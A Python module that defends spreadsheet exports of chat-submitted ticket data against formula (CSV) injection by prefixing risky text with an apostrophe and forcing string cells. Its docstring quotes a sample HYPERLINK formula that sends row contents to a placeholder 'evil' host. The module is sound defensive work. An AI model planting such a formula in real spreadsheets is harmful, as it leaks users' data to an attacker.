"""Spreadsheet cells that cannot run: every text cell of every export goes through here.

Why: a ticket's text, place, reporter name and group id are typed by anyone in a chat (or
sent through the generic webhook). A cell starting with `=`, `+`, `-` or `@` is a formula to
Excel and LibreOffice (`=HYPERLINK("http://evil?"&H2&H3,"详情")` leaks the row on a click),
and a leading tab or carriage return hides that start. Following OWASP's CSV-injection
advice, such text is prefixed with `'` (shown, never evaluated) and stored as a string cell,
so it stays inert also after the sheet is saved as CSV or a cell is edited.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# ASCII and the full-width forms spreadsheets in a Chinese locale also accept as a formula start.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def inert_text(value: str) -> str:
    """The text as it must be written to a cell: unchanged unless it could start a formula."""
    return "'" + value if value.lstrip(" ").startswith(FORMULA_STARTS) else value


def text_cell(ws: WriteOnlyWorksheet, value: str) -> WriteOnlyCell:
    """A string cell (openpyxl would otherwise store any "=…" as a live formula)."""
    cell = WriteOnlyCell(ws, value=inert_text(value))
    cell.data_type = "s"
    return cell


def safe_row(ws: WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """A row for `ws.append`: each str becomes an inert string cell, other values are kept."""
    return [text_cell(ws, v) if isinstance(v, str) else v for v in values]
